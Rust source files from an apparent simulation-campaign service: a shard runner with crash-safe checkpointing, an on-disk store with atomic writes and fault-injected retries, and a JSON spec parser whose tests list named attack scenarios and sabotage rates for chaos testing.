                if !self.store.outcomes_path(index).is_file() {
                    if let Err(e) = self.finalize_shard(index, &shard) {
                        slice_skips += 1;
                        self.skip_durable_write(index, e);
                    }
                }
                continue;
            }
            if stopped
                || budget == Some(0)
                || max_shards.is_some_and(|m| shards_touched >= m)
                || self.cfg.interrupted()
            {
                done_jobs += shard.outcomes.len() as u64;
                stopped = true;
                continue;
            }

            let done_before = shard.outcomes.len() as u64;
            let part_path = self.store.outcomes_part_path(index);
            // A kill mid-write can tear the stream's final line. Drop any
            // torn tail before appending — the torn job was never
            // checkpointed, so it simply re-runs below.
            repair_part_tail(&part_path)?;
            let part = std::fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(&part_path)
                .map_err(|e| format!("open {}: {e}", part_path.display()))?;
            let mut part = std::io::BufWriter::new(part);
            let mut stream_err: Option<std::io::Error> = None;

            let status = run_shard_resume(
                &self.cfg,
                &self.prepared,
                &mut shard,
                budget,
                done_jobs as usize + done_before as usize,
                |_, outcome| {
                    if stream_err.is_none() {
                        stream_err = writeln!(part, "{}", outcome.to_json_line()).err();
                    }
                },
            )?;
            part.flush()
                .map_err(|e| format!("flush {}: {e}", part_path.display()))?;
            if let Some(e) = stream_err {
                return Err(format!("stream {}: {e}", part_path.display()));
            }

            // The checkpoint is the authority; flush it atomically before
            // declaring any progress durable. If the disk refuses even
            // after the store's bounded retries, degrade instead of
            // aborting: skip this checkpoint — the slice's work stays in
            // the matrix and re-runs after a restart — and keep the
            // campaign moving.
            match self.store.save_shard(&shard) {
                Ok(()) => {
                    self.cfg.telemetry.emit(kinds::SHARD_FLUSHED, None, || {
                        vec![
                            ("shard", Value::U64(shard.shard_index)),
                            ("jobs_done", Value::U64(shard.outcomes.len() as u64)),
                            ("jobs_total", Value::U64(shard.jobs())),
                            ("complete", Value::Bool(status.complete)),
                        ]
                    });
                    if status.complete {
                        if let Err(e) = self.finalize_shard(index, &shard) {
                            slice_skips += 1;
                            self.skip_durable_write(index, e);
                        }
                    }
                    done_jobs += done_before + status.ran as u64;
                }
                Err(e) => {
                    slice_skips += 1;
                    self.skip_durable_write(index, e);
                    // Only previously checkpointed jobs count as done.
                    done_jobs += done_before;
                }
            }

            jobs_run += status.ran;
            shards_touched += 1;
            if let Some(b) = budget.as_mut() {
                *b = b.saturating_sub(status.ran);
            }
            if status.interrupted {
                interrupted = true;
                stopped = true;
            }
        }

        // A tripped flag is an interruption no matter where the stop was
        // detected — mid-shard (run_shard_resume reports it) or between
        // shards (only the loop guard saw it).
        let complete = done_jobs == plan.total_jobs;
        let interrupted = !complete && (interrupted || self.cfg.interrupted());
        if interrupted {
            self.cfg
                .telemetry
                .emit(kinds::CAMPAIGN_INTERRUPTED, None, || {
                    vec![
                        ("jobs_done", Value::U64(done_jobs)),
                        ("jobs_total", Value::U64(plan.total_jobs)),
                    ]
                });
        }
        Ok(RunOutcome {
            jobs_run,
            done_jobs,
            total_jobs: plan.total_jobs,
            complete,
            interrupted,
            checkpoints_skipped: slice_skips,
        })
    }

    /// Rebuild the finalized outcome stream from the checkpoint (in job
    /// order) so resumed shards still finalize to exactly one line per
    /// job, then drop the advisory `.part` file.
    fn finalize_shard(&self, index: u64, shard: &ShardCheckpoint) -> Result<(), String> {
        let mut finalized = String::new();
        for outcome in shard.outcomes.values() {
            finalized.push_str(&outcome.to_json_line());
            finalized.push('\n');
        }
        self.store
            .write_durable(&self.store.outcomes_path(index), finalized.as_bytes())?;
        let _ = std::fs::remove_file(self.store.outcomes_part_path(index));
        Ok(())
    }

    /// Record a durable write abandoned after the store's retries: bump
    /// the session counter and emit the telemetry event. The campaign
    /// keeps running; the skipped work re-runs on a later slice.
    fn skip_durable_write(&self, shard_index: u64, error: String) {
        self.checkpoints_skipped.fetch_add(1, Ordering::Relaxed);
        self.cfg
            .telemetry
            .emit(kinds::CHECKPOINT_SKIPPED, None, || {
                vec![
                    ("shard", Value::U64(shard_index)),
                    ("error", Value::Str(error)),
                ]
            });
    }
}

/// Truncate a `.part` outcome stream after its last intact line, so a
/// stream torn by a mid-write kill appends cleanly on resume instead of
/// surfacing as a parse error downstream. Missing file = nothing to do.
fn repair_part_tail(path: &Path) -> Result<(), String> {
    let bytes = match std::fs::read(path) {
        Ok(b) => b,
        Err(_) => return Ok(()),
    };
    let keep = intact_prefix(&bytes);
    if keep == bytes.len() {
        return Ok(());
    }
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .map_err(|e| format!("repair {}: {e}", path.display()))?;
    f.set_len(keep as u64)
        .map_err(|e| format!("repair {}: {e}", path.display()))?;
    Ok(())
}

/// Length of the longest prefix of `bytes` ending in a newline-terminated
/// JSON object line. Walks back one line at a time: an unterminated tail
/// is dropped, and so is a terminated-but-torn line (a kill can land a
/// flushed prefix right before another writer's newline).
fn intact_prefix(bytes: &[u8]) -> usize {
    let mut end = bytes.len();
    loop {
        let Some(nl) = bytes[..end].iter().rposition(|&b| b == b'\n') else {
            return 0;
        };
        let start = bytes[..nl]
            .iter()
            .rposition(|&b| b == b'\n')
            .map_or(0, |p| p + 1);
        if nl > start && bytes[start] == b'{' && bytes[nl - 1] == b'}' {
            return nl + 1;
        }
        end = start;
    }
}

/// Merge a complete campaign's shards into `report.json` — byte-identical
/// to the unsharded `CampaignReport::to_json()` — and return the folded
/// metrics registry. Two passes, each holding one shard at a time:
/// aggregate (cells, fleet totals, metrics), then stream the report text
/// straight to disk. Refuses incomplete or inconsistent shard sets.
pub fn merge_store(store: &CampaignStore) -> Result<(PathBuf, MetricsRegistry), String> {
    let cfg = store.spec.to_config()?;
    let plan = store.plan();
    let fingerprint = config_fingerprint(&cfg);

    // Pass 1: validate and fold every aggregate. Quarantined jobs are
    // collected for the explicit ledger — they are *also* folded into the
    // report like any other outcome, so totals never silently shrink.
    let mut agg = CampaignAggregate::new(&cfg.scenarios, &cfg.loss_levels, &cfg.fault_levels);
    let mut expect = 0u64;
    let mut quarantine = String::new();
    let mut quarantined = 0u64;
    for index in 0..plan.shard_count() {
        let shard = self_check(store.load_shard(&cfg, index)?, fingerprint, index, expect)?;
        expect = shard.job_hi;
        for (job, outcome) in &shard.outcomes {
            if outcome.failure.is_some() {
                let line = outcome.to_json_line();
                quarantine.push_str(&format!("{{\"job\":{job},{}\n", &line[1..]));
                quarantined += 1;
            }
            agg.fold(outcome)?;
        }
    }
    if expect != plan.total_jobs {
        return Err(format!("shards cover {expect} of {} jobs", plan.total_jobs));
    }
    let (cells, fleet, metrics) = agg.finish();

    // Pass 2: stream the report to disk; no full-campaign string exists.
    let report_path = store.report_path();
    let tmp = report_path.with_extension("json.tmp");
    let fail = |e: std::io::Error| format!("write {}: {e}", tmp.display());
    let mut out = std::io::BufWriter::new(std::fs::File::create(&tmp).map_err(fail)?);
    out.write_all(json_prelude(&summarize(&cfg), &cells, &fleet).as_bytes())
        .map_err(fail)?;
    let mut first = true;
    for index in 0..plan.shard_count() {
        let shard = store.load_shard(&cfg, index)?;
        for outcome in shard.outcomes.values() {
            if !first {
                out.write_all(b",\n").map_err(fail)?;
            }
            first = false;
            out.write_all(b"    ").map_err(fail)?;
            out.write_all(outcome.to_json_line().as_bytes())
                .map_err(fail)?;
        }
    }
    out.write_all(JSON_EPILOGUE.as_bytes()).map_err(fail)?;
    let f = out
        .into_inner()
        .map_err(|e| format!("flush {}: {e}", tmp.display()))?;
    f.sync_all().map_err(fail)?;
    drop(f);
    std::fs::rename(&tmp, &report_path)
        .map_err(|e| format!("rename {} -> {}: {e}", tmp.display(), report_path.display()))?;

    // The quarantine ledger is rebuilt wholesale from the checkpoints on
    // every merge, so each quarantined job appears exactly once no matter
    // how many times the campaign is merged. No failures → no file.
    let quarantine_path = store.quarantine_path();
    if quarantined == 0 {
        let _ = std::fs::remove_file(&quarantine_path);
    } else {
        store.write_durable(&quarantine_path, quarantine.as_bytes())?;
    }
    Ok((report_path, metrics))
}

fn self_check(
    shard: mavr_fleet::ShardCheckpoint,
    fingerprint: u64,
    index: u64,
    expect_lo: u64,
) -> Result<mavr_fleet::ShardCheckpoint, String> {
    if shard.fingerprint != fingerprint {
        return Err(format!(
            "shard {index} fingerprints a different campaign — refusing to merge"
        ));
    }
    if shard.job_lo != expect_lo {
        return Err(format!(
            "shard {index} starts at job {} (expected {expect_lo})",
            shard.job_lo
        ));
    }
    if !shard.complete() {
        return Err(format!(
            "shard {index} is incomplete ({}/{} jobs) — resume the campaign before merging",
            shard.outcomes.len(),
            shard.jobs()
        ));
    }
    Ok(shard)
}
