//! On-disk layout of one campaign and the crash-safe write discipline.
//!
//! A campaign directory holds:
//!
//! ```text
//! <root>/<name>/
//!   spec.json            the canonical spec (identity; written once)
//!   shard-0000.ckpt      one CRC-guarded ShardCheckpoint per shard
//!   outcomes-0000.jsonl  the shard's outcomes, one JSON line per board,
//!                        finalized only when the shard completes
//!   outcomes-0000.jsonl.part  in-flight stream of the running shard
//!   report.json          the merged campaign report (byte-identical to
//!                        an unsharded run), written by `merge`
//!   quarantine.jsonl     jobs the supervisor quarantined, one line each
//!                        (written by `merge`, only when there are any)
//! ```
//!
//! Every durable file lands via [`write_file_atomic`]: write to a `.tmp`
//! sibling, fsync, rename. A kill at any instant leaves either the old
//! file or the new one — never a torn checkpoint. The `.part` outcome
//! stream is the one deliberately non-atomic file; it is advisory (live
//! tailing) and is rebuilt from the authoritative checkpoint when the
//! shard completes.
//!
//! Durable writes go through [`CampaignStore::write_durable`]: the
//! injectable [`FaultFs`] below (inert in production), wrapped in a
//! bounded retry loop with exponential backoff — the first rung of the
//! service's disk-fault degradation ladder. The second rung (skip the
//! checkpoint, keep the campaign alive) lives in the runner.

use crate::faultfs::FaultFs;
use crate::spec::CampaignSpec;
use mavr_fleet::{ShardCheckpoint, ShardPlan};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Attempts a durable write gets before its error escapes to the caller.
pub(crate) const STORE_WRITE_ATTEMPTS: u32 = 4;

/// First retry backoff for durable writes; doubles per attempt.
const STORE_BACKOFF_BASE_MS: u64 = 1;

/// Write `bytes` to `path` atomically: temp sibling, fsync, rename. The
/// rename is atomic on POSIX filesystems, so readers (and a resuming
/// service) see the old bytes or the new bytes, never a prefix.
pub fn write_file_atomic(path: &Path, bytes: &[u8]) -> Result<(), String> {
    let tmp = tmp_sibling(path);
    let fail = |what: &str, e: std::io::Error| format!("{what} {}: {e}", tmp.display());
    let mut f = std::fs::File::create(&tmp).map_err(|e| fail("create", e))?;
    f.write_all(bytes).map_err(|e| fail("write", e))?;
    f.sync_all().map_err(|e| fail("sync", e))?;
    drop(f);
    std::fs::rename(&tmp, path)
        .map_err(|e| format!("rename {} -> {}: {e}", tmp.display(), path.display()))
}

fn tmp_sibling(path: &Path) -> PathBuf {
    let mut name = path.file_name().unwrap_or_default().to_os_string();
    name.push(".tmp");
    path.with_file_name(name)
}

/// One campaign's directory: spec plus shard files.
#[derive(Debug, Clone)]
pub struct CampaignStore {
    /// The campaign directory (`<root>/<name>`).
    pub dir: PathBuf,
    /// The campaign's identity.
    pub spec: CampaignSpec,
    /// Fault injector every durable write funnels through. Inert unless
    /// a chaos harness attached one via [`CampaignStore::with_faults`].
    fault_fs: FaultFs,
}

impl CampaignStore {
    /// Create a campaign directory under `root` (or adopt an existing one
    /// whose persisted spec is identical — resubmitting the same spec is
    /// idempotent; resubmitting a *different* spec under the same name is
    /// refused).
    pub fn create(root: &Path, spec: CampaignSpec) -> Result<Self, String> {
        let dir = root.join(&spec.name);
        let spec_path = dir.join("spec.json");
        if spec_path.exists() {
            let existing = Self::open(&dir)?;
            if existing.spec != spec {
                return Err(format!(
                    "campaign `{}` already exists with a different spec — \
                     pick a new name instead of mutating a campaign's identity",
                    spec.name
                ));
            }
            return Ok(existing);
        }
        std::fs::create_dir_all(&dir).map_err(|e| format!("mkdir {}: {e}", dir.display()))?;
        write_file_atomic(&spec_path, spec.to_json().as_bytes())?;
        Ok(CampaignStore {
            dir,
            spec,
            fault_fs: FaultFs::none(),
        })
    }

    /// Open an existing campaign directory (one containing `spec.json`).
    pub fn open(dir: &Path) -> Result<Self, String> {
        let spec_path = dir.join("spec.json");
        let text = std::fs::read_to_string(&spec_path)
            .map_err(|e| format!("read {}: {e}", spec_path.display()))?;
        Ok(CampaignStore {
            dir: dir.to_path_buf(),
            spec: CampaignSpec::from_json(&text)?,
            fault_fs: FaultFs::none(),
        })
    }

    /// Route this store's durable writes through a fault injector (chaos
    /// harnesses only; the default store never faults).
    #[must_use]
    pub fn with_faults(mut self, fault_fs: FaultFs) -> Self {
        self.fault_fs = fault_fs;
        self
    }

    /// Write `bytes` durably to `path`: atomic replace via the fault
    /// injector, retried with exponential backoff. A disk that faults
    /// transiently costs milliseconds; one that faults persistently
    /// surfaces a typed error the caller can degrade on.
    pub fn write_durable(&self, path: &Path, bytes: &[u8]) -> Result<(), String> {
        let mut last = String::new();
        for attempt in 0..STORE_WRITE_ATTEMPTS {
            match self.fault_fs.write_atomic(path, bytes) {
                Ok(()) => return Ok(()),
                Err(e) => last = e,
            }
            if attempt + 1 < STORE_WRITE_ATTEMPTS {
                std::thread::sleep(Duration::from_millis(STORE_BACKOFF_BASE_MS << attempt));
            }
        }
        Err(format!(
            "durable write failed after {STORE_WRITE_ATTEMPTS} attempts: {last}"
        ))
    }

    /// Every campaign directory under `root`, sorted by name.
    pub fn list(root: &Path) -> Result<Vec<CampaignStore>, String> {
        let mut out = Vec::new();
        let entries = match std::fs::read_dir(root) {
            Ok(entries) => entries,
            Err(_) => return Ok(out), // no root yet = no campaigns
        };
        for entry in entries.flatten() {
            let dir = entry.path();
            if dir.join("spec.json").is_file() {
                out.push(Self::open(&dir)?);
            }
        }
        out.sort_by(|a, b| a.spec.name.cmp(&b.spec.name));
        Ok(out)
    }

    /// The campaign's shard plan.
    pub fn plan(&self) -> ShardPlan {
        ShardPlan {
            total_jobs: self.spec.total_jobs(),
            shard_jobs: self.spec.shard_jobs,
        }
    }

    /// Path of shard `index`'s checkpoint.
    pub fn shard_path(&self, index: u64) -> PathBuf {
        self.dir.join(format!("shard-{index:04}.ckpt"))
    }

    /// Path of shard `index`'s finalized outcome stream.
    pub fn outcomes_path(&self, index: u64) -> PathBuf {
        self.dir.join(format!("outcomes-{index:04}.jsonl"))
    }

    /// Path of shard `index`'s in-flight outcome stream.
    pub fn outcomes_part_path(&self, index: u64) -> PathBuf {
        self.outcomes_path(index).with_extension("jsonl.part")
    }

    /// Path of the merged report.
    pub fn report_path(&self) -> PathBuf {
        self.dir.join("report.json")
    }

    /// Path of the quarantine ledger: one JSON line per job the
    /// supervisor quarantined, written by `merge` (absent when none).
    pub fn quarantine_path(&self) -> PathBuf {
        self.dir.join("quarantine.jsonl")
    }

    /// Load shard `index` from disk, or a fresh empty checkpoint if it has
    /// never been flushed. The checkpoint's own fingerprint/range fields
    /// are validated against the spec by the shard runner.
    pub fn load_shard(
        &self,
        cfg: &mavr_fleet::CampaignConfig,
        index: u64,
    ) -> Result<ShardCheckpoint, String> {
        let path = self.shard_path(index);
        match std::fs::read(&path) {
            Ok(blob) => ShardCheckpoint::from_bytes(&blob)
                .map_err(|e| format!("corrupt shard checkpoint {}: {e}", path.display())),
            Err(_) => Ok(ShardCheckpoint::new(cfg, &self.plan(), index)),
        }
    }

    /// Persist a shard checkpoint durably (atomic replace, bounded
    /// retries through the fault injector).
    pub fn save_shard(&self, ckpt: &ShardCheckpoint) -> Result<(), String> {
        self.write_durable(&self.shard_path(ckpt.shard_index), &ckpt.to_bytes())
    }

    /// Scan shard files and summarize progress without loading outcome
    /// payloads into long-lived memory (each shard is loaded, counted and
    /// dropped).
    pub fn status(&self) -> Result<CampaignStatus, String> {
        let cfg = self.spec.to_config()?;
        let plan = self.plan();
        let mut done_jobs = 0u64;
        let mut shards_complete = 0u64;
        let mut jobs_quarantined = 0u64;
        for index in 0..plan.shard_count() {
            let shard = self.load_shard(&cfg, index)?;
            done_jobs += shard.outcomes.len() as u64;
            jobs_quarantined += shard
                .outcomes
                .values()
                .filter(|o| o.failure.is_some())
                .count() as u64;
            if shard.jobs() > 0 && shard.complete() {
                shards_complete += 1;
            }
        }
        Ok(CampaignStatus {
            name: self.spec.name.clone(),
            total_jobs: plan.total_jobs,
            done_jobs,
            shards_total: plan.shard_count(),
            shards_complete,
            jobs_quarantined,
            report_written: self.report_path().is_file(),
        })
    }
}

/// Progress summary of one campaign.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CampaignStatus {
    /// Campaign name.
    pub name: String,
    /// Jobs in the matrix.
    pub total_jobs: u64,
    /// Jobs with a checkpointed outcome.
    pub done_jobs: u64,
    /// Shards in the plan.
    pub shards_total: u64,
    /// Shards fully complete.
    pub shards_complete: u64,
    /// Checkpointed jobs the supervisor quarantined (explicit, so a
    /// degraded campaign can never pass for a clean one).
    pub jobs_quarantined: u64,
    /// Whether `report.json` exists.
    pub report_written: bool,
}

impl CampaignStatus {
    /// Whether every job is done.
    pub fn complete(&self) -> bool {
        self.done_jobs == self.total_jobs
    }

    /// One status line of JSON.
    pub fn to_json(&self) -> crate::json::Json {
        use crate::json::Json;
        Json::Obj(vec![
            ("name".into(), Json::str(&self.name)),
            ("done_jobs".into(), Json::num(self.done_jobs)),
            ("total_jobs".into(), Json::num(self.total_jobs)),
            ("shards_complete".into(), Json::num(self.shards_complete)),
            ("shards_total".into(), Json::num(self.shards_total)),
            ("jobs_quarantined".into(), Json::num(self.jobs_quarantined)),
            ("complete".into(), Json::Bool(self.complete())),
            ("report_written".into(), Json::Bool(self.report_written)),
        ])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp_root(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir()
            .join("mavr-campaignd-tests")
            .join(format!("store-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn atomic_write_replaces_whole_files() {
        let root = tmp_root("atomic");
        let path = root.join("report.json");
        write_file_atomic(&path, b"old bytes").unwrap();
        write_file_atomic(&path, b"new bytes entirely").unwrap();
        assert_eq!(std::fs::read(&path).unwrap(), b"new bytes entirely");
        // No .tmp residue.
        assert_eq!(std::fs::read_dir(&root).unwrap().count(), 1);
    }

    #[test]
    fn create_is_idempotent_but_refuses_identity_changes() {
        let root = tmp_root("create");
        let mut spec = CampaignSpec::named("alpha");
        spec.boards = 2;
        let store = CampaignStore::create(&root, spec.clone()).unwrap();
        assert_eq!(store.spec, spec);
        // Same spec again: fine.
        CampaignStore::create(&root, spec.clone()).unwrap();
        // Same name, different seed: refused.
        let mut other = spec.clone();
        other.seed ^= 1;
        assert!(CampaignStore::create(&root, other).is_err());
        // Reopen from disk sees the identical spec.
        assert_eq!(CampaignStore::open(&store.dir).unwrap().spec, spec);
        assert_eq!(CampaignStore::list(&root).unwrap().len(), 1);
    }
}
