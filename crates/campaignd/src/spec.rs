//! Campaign specifications: the JSON job description a client submits to
//! the service, and its mapping onto [`CampaignConfig`].
//!
//! A spec is the *identity* of a campaign — everything that changes the
//! result lives here (seed, matrix, cycles, app, tenant), plus the two
//! service knobs that don't (`threads`, `shard_jobs`). `to_config()` is
//! the only bridge to the engine, so a spec submitted today and re-read
//! from `spec.json` after a crash builds the identical campaign.

use crate::json::Json;
use mavr_fleet::{CampaignConfig, JobChaos, Scenario};

/// A parsed campaign specification.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignSpec {
    /// Campaign name; doubles as its directory name under the service
    /// root, so it is restricted to `[A-Za-z0-9._-]`.
    pub name: String,
    /// Master seed (exact u64; quote it in JSON if your tooling floats).
    pub seed: u64,
    /// Boards per matrix cell.
    pub boards: usize,
    /// Attack scenarios.
    pub scenarios: Vec<Scenario>,
    /// Link impairment sweep.
    pub loss_levels: Vec<f64>,
    /// Fault-injection sweep.
    pub fault_levels: Vec<f64>,
    /// Pre-attack flight cycles.
    pub warmup_cycles: u64,
    /// Post-attack flight cycles.
    pub attack_cycles: u64,
    /// Firmware app name ([`synth_firmware::apps::by_name`]).
    pub app: String,
    /// Tenant namespace (0 = single-tenant, byte-compatible).
    pub tenant: u64,
    /// Fly inside the physics arena.
    pub physics: bool,
    /// Worker threads (0 = one per core). Never affects results.
    pub threads: usize,
    /// Jobs per shard checkpoint. Never affects results — re-sharding a
    /// campaign merges to the same bytes.
    pub shard_jobs: u64,
    /// Seeded job-sabotage plan (chaos harnesses only). Excluded from the
    /// config fingerprint, so a sabotaged campaign checkpoints as the
    /// *same* campaign its clean twin does.
    pub sabotage: JobChaos,
}

impl CampaignSpec {
    /// A spec with the engine's defaults and the given name.
    pub fn named(name: &str) -> Self {
        let d = CampaignConfig::default();
        CampaignSpec {
            name: name.to_string(),
            seed: d.seed,
            boards: d.boards,
            scenarios: d.scenarios,
            loss_levels: d.loss_levels,
            fault_levels: d.fault_levels,
            warmup_cycles: d.warmup_cycles,
            attack_cycles: d.attack_cycles,
            app: "tiny".to_string(),
            tenant: 0,
            physics: false,
            threads: 0,
            shard_jobs: 1024,
            sabotage: JobChaos::none(),
        }
    }

    /// Parse a spec from JSON text. Unknown keys are rejected (a typoed
    /// `"scenarois"` must not silently run the default matrix).
    pub fn from_json(text: &str) -> Result<Self, String> {
        let v = Json::parse(text).map_err(|e| format!("bad spec JSON: {e}"))?;
        let Json::Obj(fields) = &v else {
            return Err("spec must be a JSON object".into());
        };
        let name = v
            .get("name")
            .and_then(Json::as_str)
            .ok_or("spec needs a string `name`")?;
        if name.is_empty()
            || !name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        {
            return Err(format!(
                "campaign name `{name}` must be non-empty [A-Za-z0-9._-] \
                 (it becomes a directory name)"
            ));
        }
        let mut spec = CampaignSpec::named(name);

        let u64_field = |key: &str, default: u64| -> Result<u64, String> {
            match v.get(key) {
                None => Ok(default),
                Some(j) => j.as_u64().ok_or(format!("`{key}` must be a u64")),
            }
        };
        let prob_list = |key: &str, default: &[f64]| -> Result<Vec<f64>, String> {
            let Some(j) = v.get(key) else {
                return Ok(default.to_vec());
            };
            let items = j.as_arr().ok_or(format!("`{key}` must be an array"))?;
            if items.is_empty() {
                return Err(format!("`{key}` must not be empty"));
            }
            items
                .iter()
                .map(|p| {
                    p.as_f64()
                        .filter(|p| (0.0..=1.0).contains(p))
                        .ok_or(format!("`{key}` entries must be probabilities in 0..=1"))
                })
                .collect()
        };

        spec.seed = u64_field("seed", spec.seed)?;
        spec.boards = u64_field("boards", spec.boards as u64)? as usize;
        if spec.boards == 0 {
            return Err("`boards` must be at least 1".into());
        }
        if let Some(j) = v.get("scenarios") {
            let items = j.as_arr().ok_or("`scenarios` must be an array of names")?;
            if items.is_empty() {
                return Err("`scenarios` must not be empty".into());
            }
            spec.scenarios = items
                .iter()
                .map(|s| {
                    s.as_str()
                        .ok_or("`scenarios` entries must be strings".to_string())
                        .and_then(|name| name.parse::<Scenario>())
                })
                .collect::<Result<_, _>>()?;
        }
        spec.loss_levels = prob_list("loss_levels", &spec.loss_levels)?;
        spec.fault_levels = prob_list("fault_levels", &spec.fault_levels)?;
        spec.warmup_cycles = u64_field("warmup_cycles", spec.warmup_cycles)?;
        spec.attack_cycles = u64_field("attack_cycles", spec.attack_cycles)?;
        if let Some(j) = v.get("app") {
            spec.app = j.as_str().ok_or("`app` must be a string")?.to_string();
        }
        spec.tenant = u64_field("tenant", spec.tenant)?;
        if let Some(j) = v.get("physics") {
            spec.physics = j.as_bool().ok_or("`physics` must be a boolean")?;
        }
        spec.threads = u64_field("threads", spec.threads as u64)? as usize;
        spec.shard_jobs = u64_field("shard_jobs", spec.shard_jobs)?.max(1);

        let prob_field = |key: &str| -> Result<f64, String> {
            match v.get(key) {
                None => Ok(0.0),
                Some(j) => j
                    .as_f64()
                    .filter(|p| (0.0..=1.0).contains(p))
                    .ok_or(format!("`{key}` must be a probability in 0..=1")),
            }
        };
        spec.sabotage.panic_rate = prob_field("sabotage_panic")?;
        spec.sabotage.hang_rate = prob_field("sabotage_hang")?;
        spec.sabotage.flaky_rate = prob_field("sabotage_flaky")?;
        spec.sabotage.seed = u64_field("sabotage_seed", 0)?;

        const KNOWN: &[&str] = &[
            "name",
            "seed",
            "boards",
            "scenarios",
            "loss_levels",
            "fault_levels",
            "warmup_cycles",
            "attack_cycles",
            "app",
            "tenant",
            "physics",
            "threads",
            "shard_jobs",
            "sabotage_panic",
            "sabotage_hang",
            "sabotage_flaky",
            "sabotage_seed",
        ];
        for (key, _) in fields {
            if !KNOWN.contains(&key.as_str()) {
                return Err(format!(
                    "unknown spec key `{key}` (known: {})",
                    KNOWN.join(", ")
                ));
            }
        }
        // Validate the app name at submit time, not first-run time.
        spec.to_config()?;
        Ok(spec)
    }

    /// Canonical single-line JSON (every field explicit, fixed order) —
    /// what the service persists as `spec.json`.
    pub fn to_json(&self) -> String {
        let mut fields = vec![
            ("name".into(), Json::str(&self.name)),
            ("seed".into(), Json::num(self.seed)),
            ("boards".into(), Json::num(self.boards as u64)),
            (
                "scenarios".into(),
                Json::Arr(self.scenarios.iter().map(|s| Json::str(s.name())).collect()),
            ),
            (
                "loss_levels".into(),
                Json::Arr(self.loss_levels.iter().map(|p| Json::float(*p)).collect()),
            ),
            (
                "fault_levels".into(),
                Json::Arr(self.fault_levels.iter().map(|p| Json::float(*p)).collect()),
            ),
            ("warmup_cycles".into(), Json::num(self.warmup_cycles)),
            ("attack_cycles".into(), Json::num(self.attack_cycles)),
            ("app".into(), Json::str(&self.app)),
            ("tenant".into(), Json::num(self.tenant)),
            ("physics".into(), Json::Bool(self.physics)),
            ("threads".into(), Json::num(self.threads as u64)),
            ("shard_jobs".into(), Json::num(self.shard_jobs)),
        ];
        // Sabotage keys appear only when armed, so fault-free specs render
        // byte-identically to specs written before job supervision existed.
        if !self.sabotage.is_none() {
            fields.push((
                "sabotage_panic".into(),
                Json::float(self.sabotage.panic_rate),
            ));
            fields.push(("sabotage_hang".into(), Json::float(self.sabotage.hang_rate)));
            fields.push((
                "sabotage_flaky".into(),
                Json::float(self.sabotage.flaky_rate),
            ));
            fields.push(("sabotage_seed".into(), Json::num(self.sabotage.seed)));
        }
        Json::Obj(fields).to_text()
    }

    /// The engine config this spec describes. Telemetry and the interrupt
    /// flag are left at their defaults — the runner wires those.
    pub fn to_config(&self) -> Result<CampaignConfig, String> {
        let app = synth_firmware::apps::by_name(&self.app).ok_or(format!(
            "unknown app `{}` ({})",
            self.app,
            synth_firmware::apps::APP_NAMES
        ))?;
        Ok(CampaignConfig {
            seed: self.seed,
            boards: self.boards,
            scenarios: self.scenarios.clone(),
            loss_levels: self.loss_levels.clone(),
            fault_levels: self.fault_levels.clone(),
            warmup_cycles: self.warmup_cycles,
            attack_cycles: self.attack_cycles,
            threads: self.threads,
            app,
            physics: self.physics,
            tenant: self.tenant,
            sabotage: self.sabotage,
            ..CampaignConfig::default()
        })
    }

    /// Total jobs in this spec's matrix.
    pub fn total_jobs(&self) -> u64 {
        (self.scenarios.len() * self.loss_levels.len() * self.fault_levels.len() * self.boards)
            as u64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spec_round_trips_through_canonical_json() {
        let text = r#"{
            "name": "night-sweep.v2",
            "seed": 9007199254740993,
            "boards": 100,
            "scenarios": ["benign", "v2"],
            "loss_levels": [0.0, 0.01],
            "fault_levels": [0.0005],
            "attack_cycles": 100000,
            "tenant": 7,
            "shard_jobs": 64
        }"#;
        let spec = CampaignSpec::from_json(text).unwrap();
        assert_eq!(spec.name, "night-sweep.v2");
        assert_eq!(spec.seed, 9_007_199_254_740_993, "seed survives above 2^53");
        assert_eq!(spec.scenarios, vec![Scenario::Benign, Scenario::V2Stealthy]);
        assert_eq!(spec.tenant, 7);
        let rt = CampaignSpec::from_json(&spec.to_json()).unwrap();
        assert_eq!(rt, spec);
        assert_eq!(rt.to_json(), spec.to_json());

        let cfg = spec.to_config().unwrap();
        assert_eq!(cfg.seed, spec.seed);
        assert_eq!(cfg.tenant, 7);
        assert_eq!(spec.total_jobs(), 400);
    }

    #[test]
    fn sabotage_keys_round_trip_and_stay_out_of_clean_specs() {
        let clean = CampaignSpec::named("clean");
        assert!(
            !clean.to_json().contains("sabotage"),
            "the inert plan renders no keys — clean specs stay byte-stable"
        );

        let text = r#"{"name": "chaos", "sabotage_panic": 0.25,
                       "sabotage_flaky": 0.5, "sabotage_seed": 99}"#;
        let spec = CampaignSpec::from_json(text).unwrap();
        assert_eq!(spec.sabotage.panic_rate, 0.25);
        assert_eq!(spec.sabotage.hang_rate, 0.0);
        assert_eq!(spec.sabotage.flaky_rate, 0.5);
        assert_eq!(spec.sabotage.seed, 99);
        let rt = CampaignSpec::from_json(&spec.to_json()).unwrap();
        assert_eq!(rt, spec);
        assert_eq!(spec.to_config().unwrap().sabotage, spec.sabotage);
    }

    #[test]
    fn spec_rejects_typos_and_bad_values() {
        for (bad, why) in [
            (r#"{"seed": 1}"#, "missing name"),
            (r#"{"name": "a/b"}"#, "slash in name"),
            (r#"{"name": "ok", "scenarois": ["v2"]}"#, "typoed key"),
            (r#"{"name": "ok", "boards": 0}"#, "zero boards"),
            (r#"{"name": "ok", "loss_levels": [1.5]}"#, "loss > 1"),
            (r#"{"name": "ok", "loss_levels": []}"#, "empty sweep"),
            (r#"{"name": "ok", "scenarios": ["v9"]}"#, "unknown scenario"),
            (r#"{"name": "ok", "app": "helicopter"}"#, "unknown app"),
            (r#"{"name": "ok", "seed": -1}"#, "negative seed"),
            (
                r#"{"name": "ok", "sabotage_panic": 1.5}"#,
                "sabotage rate > 1",
            ),
            (
                r#"{"name": "ok", "sabotage_hang": -0.1}"#,
                "negative sabotage rate",
